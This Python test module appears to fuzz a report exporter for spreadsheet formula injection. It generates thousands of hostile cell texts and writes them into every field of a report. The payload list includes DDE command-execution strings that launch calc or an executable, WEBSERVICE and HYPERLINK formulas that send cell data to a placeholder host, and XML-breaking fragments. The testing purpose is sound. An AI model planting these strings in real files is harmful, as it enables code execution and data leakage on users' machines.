"""Texts that try to become something else, and a report in which every text is one of them."""

from __future__ import annotations

import itertools
import random
from dataclasses import replace
from typing import TYPE_CHECKING, Any

from reports.model import LongSection, Prose, Report, Section

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

BEGINNINGS = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "＝", "＋", "－", "＠"),
    *("'=", '"=', "==", "=-", "+-", "--", "'", " =", "\u00a0=", "\u200b=", "\ufeff=", "\xad="),
    *("\u200e=", "\u200f=", "\u202e=", "\u2066=", "\x00=", "\x01=", "\x0b=", "\x7f=", "\x85="),
    *("\ud800=", "\udfff=", "\ufffe=", "\t=", "\n=", "\ufeff\u200f =", "\u3000＝"),
    *(
        "a;=",
        "a,=",
        "a\t=",
        "a\n=",
        'a";=',
        'a",=',
        "a;+",
        "a,-",
        "a;@",
        "a; =",
        "a\r\n=",
        "1;-",
        "",
    ),
)
PAYLOADS = (
    *("1+1", "SUM(A1:A9)", "SOM(A1;A9)", "A1", "Kosten!B5", "-1", "0", "1E9", "TRUE", "#REF!"),
    *("cmd|' /C calc'!A0", "2+3+cmd|' /C calc'!A0", "MSEXCEL|'\\..\\x.exe'!A1", 'DDE("a";"b")'),
    *('HYPERLINK("http://example.org?"&A1,"klik")', 'WEBSERVICE("http://example.org/"&A1)'),
    *('IMPORTXML("http://example.org","//a")', "INDIRECT(A1)", "@SUM(1+9)*cmd|' /C calc'!A0"),
    *("<f>1+1</f>", "</t></is></c><c><f>1</f><v>9</v></c>", "]]><f>1</f>", "&#61;1", "&amp;"),
    *("_x003D_1+1", "_x0000_", "_xFFFF_", "_x005F_x0041_", "{=SUM(A1)}", "[Book.xlsx]A!B1"),
    *("12,50", "1.234,56", "−5", "10%", "2023-01-01", "€ 5", "00123", "1e309", "٣", "１２", "Ⅻ"),
    *("🧬", "e\u0301", "\u0627\u0644", "\u202ecod.exe", "\x00\x01\x02", "\ud83d", "\udc00x"),
    *("a\nb", "a\r\nb", "a\tb", " a ", "''", '""', ";;;", ",,,", "a;b,c\td", "\\", "%00"),
    *("&[Path]", "&G", "<!--", "R1C1", "\uffff"),
)


def hostile_texts(count: int) -> list[str]:
    """Make so many different texts: each beginning with each payload, then mixtures."""
    random_one = random.Random(6)
    made = dict.fromkeys(map("".join, itertools.product(BEGINNINGS, PAYLOADS)))
    long = ["=" + "A" * 40_000, "🧬" * 20_000, "-" * 40_000, "\t" * 33_000 + "=1", "a;=1" * 10_000]
    made |= dict.fromkeys(long)
    while len(made) < count:
        parts = random_one.choices(PAYLOADS, k=random_one.randint(1, 4))
        made[random_one.choice(BEGINNINGS) + random_one.choice(BEGINNINGS).join(parts)] = None
    texts = list(made)
    random_one.shuffle(texts)
    return texts


def poisoned(report: Report, next_text: Callable[[], str]) -> Report:
    """Put a text in the place of every text of a report, but for its headings."""
    return replace(
        report,
        title=next_text(),
        subtitle=next_text(),
        author=next_text(),
        version=next_text(),
        ledger_state=next_text(),
        note=next_text(),
        about=tuple((_other(name, next_text), _other(value, next_text))
                    for name, value in report.about),
        sections=tuple(_section(section, next_text) for section in report.sections),
        texts=(Prose("word", next_text(), next_text(), report.sections[0].key),),
    )  # fmt: skip


def _section(section: Section | LongSection, next_text: Callable[[], str]) -> Section | LongSection:
    changed: dict[str, Any] = {"note": next_text(), "totals": _row(section.totals, next_text)}
    rows = tuple(_row(row, next_text) for row in section.rows)
    if isinstance(section, Section):
        return replace(section, rows=rows, **changed)
    return replace(section, read=lambda: _again(rows), **changed)


def _again(rows: tuple[Any, ...]) -> Iterator[Any]:
    return iter(rows)


def _row(row: tuple[Any, ...], next_text: Callable[[], str]) -> tuple[Any, ...]:
    return tuple(_other(value, next_text) for value in row)


def _other(value: Any, next_text: Callable[[], str]) -> Any:
    return next_text() if isinstance(value, str) else value
